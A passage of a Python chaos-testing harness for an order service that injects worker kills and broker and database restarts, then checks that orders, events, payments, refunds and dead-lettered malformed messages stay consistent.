        cur.execute("SELECT order_id::text, provider, status, amount, currency, provider_payment_id, capture_id,"
                    " refund_id, confirmed_event_id, last_error FROM payments")
        payments = {r[0]: dict(zip(("order_id", "provider", "status", "amount", "currency", "pid", "capture_id",
                                    "refund_id", "confirmed_event_id", "last_error"), r)) for r in cur.fetchall()}
        cur.execute("SELECT consumer, message_id FROM inbox")
        inbox: dict[str, set[str]] = defaultdict(set)
        for consumer, mid in cur.fetchall():
            inbox[consumer].add(mid)
        cur.execute("SELECT order_id::text, product_id, quantity FROM order_items ORDER BY order_id, line_no")
        items: dict[str, list[tuple[str, int]]] = defaultdict(list)
        for oid, pid, q in cur.fetchall():
            items[oid].append((pid, q))
        cur.execute("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
        tables = sorted(r[0] for r in cur.fetchall())
    finally:
        conn.close()
    url = stack.amqp_url()
    audit_run = stack.cli("audit", "--json", "--stuck-minutes", "0", check=False)
    try:
        audit = json.loads(audit_run.stdout)
    except ValueError:
        audit = {"ok": False, "findings": [], "error": (audit_run.stderr or audit_run.stdout)[-1000:]}
    stripe = httpx.get(stack.fake_urls["stripe"] + "/_fake/charges", timeout=30).json()
    paypal = httpx.get(stack.fake_urls["paypal"] + "/_fake/charges", timeout=30).json()
    read_model: dict[str, str] = {}
    client = redis.Redis(port=stack.redis_port, socket_timeout=5)
    for key in client.scan_iter("orders:view:*", count=1000):
        view = client.hget(key, "view")
        if view is not None:
            read_model[key.decode().rsplit(":", 1)[-1]] = json.loads(view).get("status")
    return Snapshot(orders, transitions, payments, inbox, items, capture_events(url), read_dead_letters(url),
                    stripe, paypal, audit, read_model, tables)


# -- checks -----------------------------------------------------------------------------------------


@dataclass
class Check:
    name: str
    ok: bool
    detail: str
    problems: list[str] = field(default_factory=list)


STATUS_EVENT = {"pending": "order.placed", "awaiting_payment": "order.awaiting_payment", "completed": "order.completed",
                "cancelled": "order.cancelled", "rejected": "order.rejected", "shipped": "order.shipped"}
HOLDING = ("pending", "awaiting_payment")


def _check(name: str, problems: list[str], ok_detail: str) -> Check:
    if problems:
        return Check(name, False, f"{len(problems)} violation(s): " + "; ".join(problems[:3]), problems)
    return Check(name, True, ok_detail)


def expected_final(plan: PlannedOrder) -> set[str]:
    """The end states an order of this plan may reach."""
    base = {"visa": {"completed"}, "declined": {"rejected"}, "3ds": {"completed"}, "3ds_fail": {"rejected"},
            "paypal": {"completed"}, "paypal_decline": {"rejected"}, "unknown_product": {"rejected"},
            "internal_early": {"completed"}}[plan.kind]
    if plan.cancel and plan.kind != "unknown_product":
        return base | {"cancelled"}
    return base


def run_checks(snap: Snapshot, plan: list[PlannedOrder], malformed: list[Malformed], ledger: Ledger,
               stack: Stack, injector: Injector, outcomes: dict[str, Any]) -> list[Check]:
    checks: list[Check] = []
    by_id = {o.order_id: o for o in plan}

    # 1. every accepted PlaceOrder became exactly one order; nothing else became one
    problems = [f"order {oid} (accepted) missing" for oid in sorted(ledger.placed) if oid not in snap.orders]
    problems += [f"order {oid} exists but was never placed by the run" for oid in snap.orders if oid not in by_id]
    for oid, row in snap.orders.items():
        o = by_id.get(oid)
        if o is not None and row["place_mid"] != o.place_mid:
            problems.append(f"order {oid} placed by {row['place_mid']!r}, expected {o.place_mid!r}")
        if o is not None and row["user_id"] != o.user:
            problems.append(f"order {oid} has user {row['user_id']!r}, sent {o.user!r}")
        if o is not None and row["total"] != o.total and o.kind != "unknown_product":
            problems.append(f"order {oid} total {row['total']}, catalogue says {o.total}")
    checks.append(_check("each accepted order exists once, as sent", problems,
                         f"{len(snap.orders)} orders = {len(ledger.placed)} accepted PlaceOrders (each sent twice)"))

    # 2. every accepted command is recorded once in the inbox (its effect committed once)
    problems = []
    total = 0
    for consumer, mids in ledger.accepted.items():
        total += len(mids)
        missing = sorted(mids - snap.inbox.get(consumer, set()))
        problems += [f"{consumer}: {m} accepted but never applied" for m in missing]
    checks.append(_check("every accepted command applied (inbox)", problems,
                         f"{total} distinct commands accepted (each sent 2-3 times), all in the inbox once"))

    # 3. transitions: each message moves an order at most once; history starts with the PlaceOrder
    problems = []
    for oid, hist in snap.transitions.items():
        seen = Counter(t["message_id"] for t in hist)
        problems += [f"order {oid}: message {m} moved it {n} times" for m, n in seen.items() if n > 1]
        if hist[0]["from"] is not None or hist[0]["message_id"] != snap.orders.get(oid, {}).get("place_mid"):
            problems.append(f"order {oid}: history does not start with its PlaceOrder")
        if sum(1 for t in hist if t["from"] is None) != 1:
            problems.append(f"order {oid}: created more than once")
    problems += [f"order {oid} has no history" for oid in snap.orders if oid not in snap.transitions]
    checks.append(_check("each command moved its order once", problems,
                         f"{sum(len(h) for h in snap.transitions.values())} transitions, no message applied twice"))

    # 4. orders audit (database side: states vs history, payments vs orders, outbox, nothing stuck)
    # internal payments of ended orders are the audit's to report: they wait for an operator
    # (their RefundPayment is dead-lettered with ManualActionRequired, checked with the money below)
    handed = {dl["order_id"] for dl in snap.dead_letters
              if dl["type"] == "RefundPayment" and dl["headers"].get("x-error-class") == "ManualActionRequired"}
    kept = {oid for oid, p in snap.payments.items() if p["status"] == "succeeded"
            and snap.orders.get(oid, {}).get("status") in ("cancelled", "rejected")}
    all_handed = all(snap.payments[oid]["provider"] == "internal" and oid in handed for oid in kept)
    findings = [f for f in snap.audit.get("findings", [])
                if not (f["check"] == "money-kept-for-ended-orders" and f["count"] == len(kept) and all_handed)]
    problems = [f"{f['check']} ({f['severity']}): {f['count']} e.g. {f['sample'][:1]}" for f in findings]
    if not snap.audit.get("ok") and not problems:
        problems.append(f"orders audit failed: {snap.audit.get('error', '?')}")
    checks.append(_check("orders audit --json (stuck after 0 min)", problems,
                         f"ok; {len(snap.audit.get('checks', []))} checks, no finding"))

    # 5. each order ended where its plan and its commands allow
    problems = []
    for oid, row in snap.orders.items():
        o = by_id.get(oid)
        if o is None:
            continue
        allowed = expected_final(o)
        if row["status"] not in allowed:
            problems.append(f"order {oid} ({o.kind}{', cancel ' + o.cancel if o.cancel else ''}) is {row['status']}, "
                            f"expected {' or '.join(sorted(allowed))} ({row['reason'] or 'no reason'})")
    checks.append(_check("every order in a state its commands allow", problems,
                         ", ".join(f"{k} {v}" for k, v in sorted(outcomes.items()))))

    # 6. events: one body per id; each event id names an order of the run
    bodies: dict[str, bytes] = {}
    problems = []
    dupes = 0
    for e in snap.events:
        mid = e["message_id"]
        if e["body"] is None or mid != e["body"].get("event_id"):
            problems.append(f"event {mid}: message_id and body event_id differ or body is not JSON")
            continue
        if mid in bodies:
            dupes += 1
            if bodies[mid] != e["raw"]:
                problems.append(f"event {mid} ({e['routing_key']}) seen with two different bodies")
        else:
            bodies[mid] = e["raw"]
        if e["body"].get("order_id") not in snap.orders:
            problems.append(f"event {mid} names unknown order {e['body'].get('order_id')}")
    checks.append(_check("no event id with two different bodies", problems,
                         f"{len(snap.events)} events captured, {len(bodies)} distinct ids, "
                         f"{dupes} redelivered copies identical"))

    # 7/8. per order: inventory and order events match the history, in commit order
    distinct: dict[str, dict[str, set[str]]] = defaultdict(lambda: defaultdict(set))
    first_order: dict[str, list[str]] = defaultdict(list)
    seen_ids: set[str] = set()
    stock_items: dict[str, list[Any]] = {}
    for e in snap.events:
        if e["body"] is None:
            continue
        oid = e["body"].get("order_id")
        distinct[oid][e["routing_key"]].add(e["message_id"])
        if e["message_id"] not in seen_ids:
            seen_ids.add(e["message_id"])
            first_order[oid].append(e["routing_key"])
        if e["exchange"] == INVENTORY_EXCHANGE:
            stock_items[e["message_id"]] = sorted((i["product_id"], i["quantity"]) for i in e["body"].get("items", []))
    inv_problems, ev_problems, order_problems = [], [], []
    for oid, hist in snap.transitions.items():
        got = distinct.get(oid, {})
        tos = [t["to"] for t in hist]
        reserve = 1 if tos[0] == "pending" else 0
        release = sum(1 for t in hist if t["from"] in HOLDING and t["to"] in ("cancelled", "rejected"))
        commit = sum(1 for t in hist if t["to"] == "completed")
        for key, want in (("stock.reserve", reserve), ("stock.release", release), ("stock.commit", commit)):
            if len(got.get(key, ())) != want:
                inv_problems.append(f"order {oid}: {len(got.get(key, ()))} {key}, history says {want} ({'→'.join(tos)})")
        for key in ("stock.reserve", "stock.release", "stock.commit"):
            for mid in got.get(key, ()):
                if stock_items.get(mid) != sorted(snap.items.get(oid, [])):
                    inv_problems.append(f"order {oid}: {key} items {stock_items.get(mid)} differ from the order's")
        want_events = Counter(STATUS_EVENT[t] for t in tos)
        want_events["order.refunded"] = 1 if snap.payments.get(oid, {}).get("status") == "refunded" else 0
        for key in set(want_events) | {k for k in got if k.startswith("order.")}:
            if len(got.get(key, ())) != want_events.get(key, 0):
                ev_problems.append(f"order {oid}: {len(got.get(key, ()))} {key}, history says "
                                   f"{want_events.get(key, 0)} ({'→'.join(tos)})")
        firsts = [k for k in first_order.get(oid, []) if k.startswith("order.") and k != "order.refunded"]
        if firsts != [STATUS_EVENT[t] for t in tos] and not any(p.startswith(f"order {oid}:") for p in ev_problems):
            order_problems.append(f"order {oid}: events left as {firsts}, history is {'→'.join(tos)}")
    checks.append(_check("inventory events match each order's history", inv_problems,
                         "reserve once, release once if cancelled/rejected after reserve, commit once if paid"))
    checks.append(_check("order events match each order's history", ev_problems,
                         "one order.<status> per transition, order.refunded once per refund"))
    checks.append(_check("events of an order leave in commit order", order_problems,
                         "first deliveries follow each order's transitions"))

    # 9. money: nobody charged twice, charges match orders, refunds match cancelled/rejected orders
    charge_problems, refund_problems, paid_problems = [], [], []
    stripe_orders = snap.stripe.get("orders", {})
    paypal_orders = snap.paypal.get("orders", {})
    charged = refunded = 0
    for oid, c in stripe_orders.items():
        row = snap.orders.get(oid)  # type: ignore[assignment]
        pay = snap.payments.get(oid, {})
        if c["payment_intents"] > 1:
            charge_problems.append(f"stripe: order {oid} has {c['payment_intents']} PaymentIntents")
        if c["charges"] > 1:
            charge_problems.append(f"stripe: order {oid} charged {c['charges']} times")
        if row is None:
            if c["charges"]:
                charge_problems.append(f"stripe: charge for unknown order {oid!r}")
            continue
        if c["charges"]:
            charged += 1
            if c["amount_charged"] != row["total"]:
                charge_problems.append(f"stripe: order {oid} charged {c['amount_charged']}, total {row['total']}")
        if c["refunds"] > 1:
            refund_problems.append(f"stripe: order {oid} refunded {c['refunds']} times")
        if c["refunds"] and row["status"] == "completed":
            pass  # a second payment given back (paid another way meanwhile): the net is checked below
        elif c["refunds"]:
            refunded += 1
            if row["status"] not in ("cancelled", "rejected") or pay.get("status") != "refunded" \
                    or c["amount_refunded"] != c["amount_charged"]:
                refund_problems.append(f"stripe: order {oid} ({row['status']}, payment {pay.get('status')}) refunded "
                                       f"{c['amount_refunded']} of {c['amount_charged']}")
    for oid, c in paypal_orders.items():
        row = snap.orders.get(oid)  # type: ignore[assignment]
        pay = snap.payments.get(oid, {})
        if c["orders"] > 1:
            charge_problems.append(f"paypal: order {oid} has {c['orders']} PayPal orders")
        if c["captures"] > 1:
            charge_problems.append(f"paypal: order {oid} captured {c['captures']} times")
        if row is None:
            if c["captures"]:
                charge_problems.append(f"paypal: capture for unknown order {oid!r}")
            continue
        value = f"{row['total'] // 100}.{row['total'] % 100:02d}"
        if c["captures"]:
            charged += 1
            if float(c["amount_captured"]) != float(value):
                charge_problems.append(f"paypal: order {oid} captured {c['amount_captured']}, total {value}")
        if c["refunds"] > 1:
            refund_problems.append(f"paypal: order {oid} refunded {c['refunds']} times")
        if c["refunds"]:
            refunded += 1
            if row["status"] not in ("cancelled", "rejected") or pay.get("status") != "refunded":
                refund_problems.append(f"paypal: order {oid} ({row['status']}, payment {pay.get('status')}) refunded")
    # money held per order: net charges at the fakes plus a confirmation from the internal payment service
    internal_events = {f"chaos-{stack.cfg.seed}-intpay-{o.index}" for o in plan if o.kind == "internal_early"}
    # money the internal payment service took for an order that ended: the service cannot refund it
    # itself, so the RefundPayment waits in the dead-letter queue for a person (ManualActionRequired)
    manual = {dl["order_id"] for dl in snap.dead_letters
              if dl["type"] == "RefundPayment" and dl["headers"].get("x-error-class") == "ManualActionRequired"}
    for oid, row in snap.orders.items():
        pay = snap.payments.get(oid, {})
        internal = (pay.get("confirmed_event_id") in internal_events
                    or any(t["message_id"] in internal_events for t in snap.transitions.get(oid, [])))
        s_ = stripe_orders.get(oid, {})
        p_ = paypal_orders.get(oid, {})
        held = {"stripe": s_.get("charges", 0) - s_.get("refunds", 0), "paypal": p_.get("captures", 0) - p_.get("refunds", 0),
                "internal": 1 if internal and pay.get("status") != "refunded" else 0}
        where = ", ".join(f"{k} {v}" for k, v in held.items() if v)
        if row["status"] == "completed" and sum(held.values()) != 1:
            paid_problems.append(f"order {oid} completed holding {sum(held.values())} payments ({where or 'none'}; "
                                 f"payment row {pay.get('status')} {pay.get('pid')})")
        if row["status"] in ("cancelled", "rejected") and held["internal"] and oid in manual:
            held["internal"] = 0  # handed to an operator, with the reason
        if row["status"] in ("cancelled", "rejected") and sum(held.values()) != 0:
            paid_problems.append(f"order {oid} {row['status']} but money kept ({where}; payment row "
                                 f"{pay.get('status')} {pay.get('pid')}: {str(pay.get('last_error') or '')[:120]})")
    db_refunds = sum(1 for p in snap.payments.values() if p["status"] == "refunded")
    if db_refunds != refunded:
        refund_problems.append(f"{db_refunds} payments refunded in PostgreSQL, {refunded} refunds at the fakes")
    checks.append(_check("no order charged twice (fakes' records)", charge_problems,
                         f"{charged} orders charged once each; one PaymentIntent / PayPal order per order"))
    checks.append(_check("every refund matches a payment on a cancelled/rejected order", refund_problems,
                         f"{refunded} refunds, each the full payment of a cancelled or rejected order"))
    checks.append(_check("completed orders paid once; ended orders keep no money", paid_problems,
                         "each completed order holds exactly one payment (Stripe, PayPal or internal); "
                         "cancelled/rejected orders hold none"
                         + (f" ({len(manual)} internal refunds handed to an operator)" if manual else "")))

    # 10. malformed messages: dead-lettered with a reason, never applied
    by_index: dict[int, list[dict[str, Any]]] = defaultdict(list)
    unexpected = []
    for dl in snap.dead_letters:
        idx = dl["headers"].get("chaos-malformed")
        if dl["type"] == "RefundPayment" and dl["headers"].get("x-error-class") == "ManualActionRequired":
            continue  # an internal payment to give back by hand (see the money check)
        if idx is None:
            unexpected.append(dl)
        else:
            by_index[int(idx)].append(dl)
    problems = []
    for m in malformed:
        found = by_index.get(m.index)
        if not found:
            problems.append(f"malformed #{m.index} ({m.category}) not in the dead-letter queue")
        elif not all(d["headers"].get("x-error-class") and d["headers"].get("x-error-message") for d in found):
            problems.append(f"malformed #{m.index} ({m.category}) dead-lettered without a reason: {found[0]['headers']}")
    applied = [m for m in malformed if m.message_id and m.message_id in snap.inbox.get("orders", set())]
    problems += [f"malformed #{m.index} ({m.category}) was applied (inbox)" for m in applied]
    extra = sum(len(v) - 1 for v in by_index.values())
    checks.append(_check("every malformed message dead-lettered with a reason", problems,
                         f"{len(malformed)} of {len(malformed)} in {DEAD_LETTER_QUEUE} with x-error-class and "
                         f"x-error-message" + (f" ({extra} twice: at-least-once after a kill)" if extra else "")))
    problems = [f"{d['type']} {str(d['message_id'])[:60]}: {d['headers'].get('x-error-class')}: "
                f"{str(d['headers'].get('x-error-message'))[:200]}" for d in unexpected]
    checks.append(_check("no valid command dead-lettered", problems, "only the malformed messages are there"))

    # 11. hostile but valid user ids stored verbatim; tables intact
    problems = []
    hostile = [o for o in plan if o.user in HOSTILE_USERS and o.order_id in ledger.placed]
    for o in hostile:
        stored = snap.orders.get(o.order_id)
        if stored is None or stored["user_id"] != o.user:
            problems.append(f"order {o.order_id}: user {o.user!r} stored as {stored and stored['user_id']!r}")
    for table in ("orders", "order_items", "order_transitions", "payments", "inbox", "outbox"):
        if table not in snap.tables:
            problems.append(f"table {table} is gone")
    checks.append(_check("hostile strings stored verbatim, tables intact", problems,
                         f"{len(hostile)} orders with SQL/script-like user ids kept them as data"))

    # 12. read model agrees with PostgreSQL
    problems = [f"order {oid}: cached {status}, PostgreSQL {snap.orders[oid]['status']}"
                for oid, status in snap.read_model.items() if oid in snap.orders and snap.orders[oid]["status"] != status]
    checks.append(_check("Redis read model agrees with PostgreSQL", problems,
                         f"{len(snap.read_model)} cached views, all current"))

    # 13. processes: alive, restarted by the supervisor / the script only
    problems = []
    pool = stack.pool
    assert pool is not None
    if not pool.alive() or pool.starts != 1:
        problems.append("the worker pool supervisor died (it is never restarted by the script)")
    kids = pool.children() if pool.alive() else []
    if len(kids) != stack.cfg.processes:
        problems.append(f"{len(kids)} worker processes alive, expected {stack.cfg.processes}")
    restarts = [e for e in pool.log_events() if e.get("event") == "worker process died; restarting"]
    killed = set(injector.killed_workers)
    unexplained = [e for e in restarts if e.get("pid") not in killed]
    problems += [f"worker pid {e.get('pid')} died on its own (exit code {e.get('exitcode')})" for e in unexplained]
    if len(restarts) - len(unexplained) < len(killed):
        problems.append(f"{len(killed)} workers killed, the supervisor restarted {len(restarts) - len(unexplained)}")
    for relay in stack.relays:
        if not relay.alive():
            problems.append(f"{relay.name} is not running")
        if relay.starts - 1 > sum(1 for i in injector.schedule if i.kind == "relay kill"):
            problems.append(f"{relay.name} was started {relay.starts} times")
    if stack.shim is None or not stack.shim.alive():
        problems.append("the shim died")
    checks.append(_check("no process restarted by hand", problems,
                         f"pool and {len(stack.relays)} relays alive; {len(restarts)} worker restarts by the "
                         f"supervisor = {len(killed)} kills; relays restarted only after the script's kills"))

    # 14. the driver: every command eventually accepted
    checks.append(_check("every command eventually accepted by the service", list(ledger.gave_up),
                         f"{sum(ledger.sent.values())} sends, none given up"))
    return checks


# -- report ---------------------------------------------------------------------------------------


def injected_rows(cfg: ChaosConfig, injector: Injector, ledger: Ledger, buyer: Buyer, faults: dict[str, Any],
                  snap: Snapshot | None, plan: list[PlannedOrder], malformed: list[Malformed]) -> list[tuple[str, str, str, str]]:
    by = defaultdict(list)
    for inj in injector.schedule:
        by[inj.kind].append(inj)

    def done(kind: str) -> int:
        return sum(1 for i in by[kind] if i.done_at is not None and i.ok)

    def detail(kind: str) -> str:
        return "; ".join(f"{i.done_at:.0f}s {i.detail}" for i in by[kind] if i.done_at is not None)[:300]

    mode = "the machine's server" if cfg.real_restarts else "proxy cut"
    takeovers = injector.takeovers
    rows = [
        ("SIGKILL worker process", str(cfg.worker_kills), str(done("worker kill")),
         (f"pids {', '.join(map(str, injector.killed_workers[:8]))}"
          f"{' …' if len(injector.killed_workers) > 8 else ''}; the supervisor restarts them")),
        ("SIGKILL active relay", str(cfg.relay_kills), str(done("relay kill")),
         (f"standby active after {min(takeovers):.1f}-{max(takeovers):.1f}s; killed relay restarted by the script"
          if takeovers else detail("relay kill"))),
        ("RabbitMQ restart", "1", str(done("rabbitmq restart")), f"{mode}: {detail('rabbitmq restart')}"),
        ("PostgreSQL restart", "1", str(done("postgresql restart")), f"{mode}: {detail('postgresql restart')}"),
        ("Redis stopped", "1", str(done("redis stop")), detail("redis stop")),
        ("payment fakes failing", f"{cfg.fault_rate:.0%} of calls", "on",
         ", ".join(f"{k} {v:.0%}" for k, v in faults.items())
         + (f"; API calls: stripe {snap.stripe.get('api_requests')}, paypal {snap.paypal.get('api_requests')}"
            if snap else "")),
    ]
    s = ledger.sent
    n_place = s["PlaceOrder on the bus (copy 1)"] + s["POST /orders (copy 1)"]
    rows.append(("orders placed", str(cfg.orders), str(n_place),
                 f"bus {s['PlaceOrder on the bus (copy 1)']}, shim POST /orders with JWT {s['POST /orders (copy 1)']}; "
                 + ", ".join(f"{k} {v}" for k, v in sorted(Counter(o.kind for o in plan).items()))))
    dup = (s["PlaceOrder on the bus (copy 2)"] + s["POST /orders (copy 2)"] + s["CancelOrder on the bus (copy 2)"]
           + s["internal PaymentConfirmed before PlaceOrder (copy 2)"] + s["CancelOrder racing the payment (copy 2)"])
    rows.append(("commands published twice", "all", str(dup),
                 "PlaceOrder, CancelOrder, PaymentConfirmed: same message_id (shim: same Idempotency-Key)"))
    rows.append(("out of order (before PlaceOrder)", "", str(sum(1 for o in plan if o.cancel == "before")
                                                          + sum(1 for o in plan if o.kind == "internal_early")),
                 (f"CancelOrder {sum(1 for o in plan if o.cancel == 'before')}, PaymentConfirmed (internal, HMAC "
                  f"via shim) {sum(1 for o in plan if o.kind == 'internal_early')}")))
    rows.append(("cancels by the owner", "", str(s["CancelOrder on the bus (copy 1)"]
                                                 + s["PUT /orders/{id}/cancel accepted"]
                                                 + s["CancelOrder racing the payment (copy 1)"]),
                 (f"bus {s['CancelOrder on the bus (copy 1)']} (some before their PlaceOrder), racing the buyer's "
                  f"payment {s['CancelOrder racing the payment (copy 1)']}, shim PUT accepted "
                  f"{s['PUT /orders/{id}/cancel accepted']} / answered 409-404 {sum(ledger.refused.values())}")))
    rows.append(("webhooks delivered three times", "",
                 str(buyer.deliveries["stripe"] // 3 + buyer.deliveries["paypal"] // 3),
                 (f"Stripe (3-D Secure) {buyer.deliveries['stripe']} deliveries, PayPal (approved) "
                  f"{buyer.deliveries['paypal']} deliveries, signed, through the shim")))
    cats = Counter(m.category for m in malformed)
    rows.append(("malformed / hostile messages", str(cfg.malformed), str(sum(v for k, v in s.items()
                                                                            if k.startswith("malformed"))),
                 ", ".join(f"{k} {v}" for k, v in cats.most_common())))
    return rows


def render(result: dict[str, Any]) -> None:
    from rich.console import Console
    from rich.table import Table

    console = Console(width=200)
    t = Table(title=f"Chaos run — seed {result['seed']}, {result['orders']} orders, "
                    f"{'real restarts' if result['real_restarts'] else 'proxies + private Redis'}",
              show_lines=False)
    for col in ("injected", "planned", "done", "detail"):
        t.add_column(col, overflow="fold")
    for row in result["injected"]:
        t.add_row(*row)
    console.print(t)
    c = Table(title="Checks")
    for col in ("check", "result", "detail"):
        c.add_column(col, overflow="fold")
    for chk in result["checks"]:
        c.add_row(chk["name"], "[green]ok[/green]" if chk["ok"] else "[red]VIOLATED[/red]", chk["detail"])
    console.print(c)
    for chk in result["checks"]:
        if not chk["ok"]:
            console.print(f"[red]{chk['name']}[/red] — first {min(10, len(chk['problems']))} of {len(chk['problems'])}:")
            for p in chk["problems"][:10]:
                console.print("   ", p)
    verdict = "[green]PASSED[/green]" if result["ok"] else "[red]FAILED[/red]"
    console.print(f"{verdict} in {result['runtime_s']:.0f}s (load {result['load_s']:.0f}s, quiescence after "
                  f"{result['quiescence_s']:.0f}s more); logs: {result['logs']}")


# -- the run --------------------------------------------------------------------------------------


def _interrupt(*_: Any) -> None:
    raise KeyboardInterrupt


def run(cfg: ChaosConfig) -> dict[str, Any]:
    """Carry out one chaos run and return its result (``result["ok"]``); raises ChaosError when it cannot."""
    started = time.monotonic()
    deadline = started + cfg.timeout
    tmp = Path(tempfile.mkdtemp(prefix="orders-chaos-"))
    # one run per database at a time; released when this process ends, however it ends
    lock_file = open(Path(tempfile.gettempdir()) / f"orders-chaos-{cfg.database}.lock", "w")  # noqa: SIM115
    try:
        fcntl.flock(lock_file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        raise ChaosError(f"another chaos run uses database {cfg.database}") from None
    stack = Stack(cfg, tmp)
    driver = buyer = injector = None
    keep = cfg.keep_logs
    try:
        say(f"seed {cfg.seed}: {cfg.orders} orders over {cfg.window:.0f}s, database {cfg.database}, "
            f"vhost {cfg.vhost}, logs in {tmp}")
        plan = plan_orders(cfg, load_products())
        malformed = plan_malformed(cfg, plan)
        stack.prepare()
        stack.start_service()
        faults = stack.faults_on(cfg.seed)
        ledger = Ledger()
        driver = Driver(cfg, stack, plan, malformed, ledger, deadline)
        buyer = Buyer(cfg, stack, {o.order_id: o for o in plan}, ledger, deadline)
        injector = Injector(cfg, stack)
        say("service ready; load and injections start")
        buyer.start()
        driver.start()
        injector.start(time.monotonic())
        while not (driver.done.is_set() and injector.done.is_set()):
            if time.monotonic() > deadline:
                raise ChaosError("the run's deadline passed during the load")
            for p in stack.procs:
                if p is stack.pool and not p.alive():
                    raise ChaosError(f"the worker pool exited: {p.log.read_text(errors='replace')[-1500:]}")
            time.sleep(0.5)
        if driver.error is not None:
            raise ChaosError(f"the load driver failed: {driver.error!r}")
        if injector.error is not None:
            raise ChaosError(f"an injection failed: {injector.error!r}")
        load_s = time.monotonic() - started
        say(f"load sent in {time.monotonic() - injector.t0:.0f}s; waiting for quiescence")
        quiet = wait_for_quiescence(stack, ledger, buyer, min(cfg.quiesce_timeout, max(10, deadline - time.monotonic())))
        buyer.stop()
        if buyer.error is not None:
            raise ChaosError(f"the buyer simulation failed: {buyer.error!r}")
        say(f"quiescent after {quiet['seconds']:.0f}s; checking")
        snap = snapshot(stack)
        outcomes = Counter(r["status"] for r in snap.orders.values())
        checks = run_checks(snap, plan, malformed, ledger, stack, injector, outcomes)
        ok = all(c.ok for c in checks)
        keep = keep or not ok
        return {
            "ok": ok, "seed": cfg.seed, "orders": cfg.orders, "real_restarts": cfg.real_restarts,
            "runtime_s": time.monotonic() - started, "load_s": load_s, "quiescence_s": quiet["seconds"],
            "logs": str(tmp) if keep else "(removed)",
            "injected": injected_rows(cfg, injector, ledger, buyer, faults, snap, plan, malformed),
            "checks": [asdict(c) for c in checks], "statuses": dict(outcomes),
            "events_captured": len(snap.events), "dead_letters": len(snap.dead_letters),
        }
    except BaseException:
        keep = True
        raise
    finally:
        if injector is not None:
            injector.stop_event.set()
            injector.thread.join(60)
        if buyer is not None and buyer.thread.is_alive():
            buyer.stop()
        stack.stop()
        if cfg.drop_after:
            stack.drop()
        if not keep:
            shutil.rmtree(tmp, ignore_errors=True)
        else:
            say(f"logs kept in {tmp}")
        lock_file.close()


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["_proxy"]:
        return _proxy_main(argv[1:])
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter, epilog=__doc__.split("Usage::")[1])
    ap.add_argument("--seed", type=int, default=1, help="seed of the load mix and the injection schedule (default 1)")
    ap.add_argument("--orders", type=int, default=10_000, help="orders to place (default 10000)")
    ap.add_argument("--real-restarts", action="store_true",
                    help="restart the machine's RabbitMQ, PostgreSQL and Redis (default: cut proxies, private Redis)")
    ap.add_argument("--json", action="store_true", help="print the result as JSON instead of tables")
    ap.add_argument("--rate", type=float, default=60.0, help="orders offered per second (default 60)")
    ap.add_argument("--malformed", type=int, default=None, help="malformed messages (default 1000, fewer below "
                                                                "10000 orders: orders/10)")
    ap.add_argument("--worker-kills", type=int, default=20)
    ap.add_argument("--relay-kills", type=int, default=5)
    ap.add_argument("--timeout", type=float, default=3600, help="give up after this many seconds (default 3600)")
    ap.add_argument("--keep-logs", action="store_true", help="keep the processes' logs (kept anyway on failure)")
    args = ap.parse_args(argv)
    if args.orders < 50:
        ap.error("--orders must be at least 50")
    cfg = ChaosConfig(seed=args.seed, orders=args.orders, real_restarts=args.real_restarts, rate=args.rate,
                      malformed=args.malformed if args.malformed is not None else min(1000, max(50, args.orders // 10)),
                      worker_kills=args.worker_kills, relay_kills=args.relay_kills, timeout=args.timeout,
                      keep_logs=args.keep_logs)
    signal.signal(signal.SIGTERM, _interrupt)
    try:
        result = run(cfg)
    except ChaosError as exc:
        say(f"error: {exc}")
        if args.json:
            print(json.dumps({"ok": False, "error": str(exc)}))
        return 2
    except KeyboardInterrupt:
        say("interrupted")
        return 130
    if args.json:
        print(json.dumps(result, indent=2, default=str))
    else:
        render(result)
    return 0 if result["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
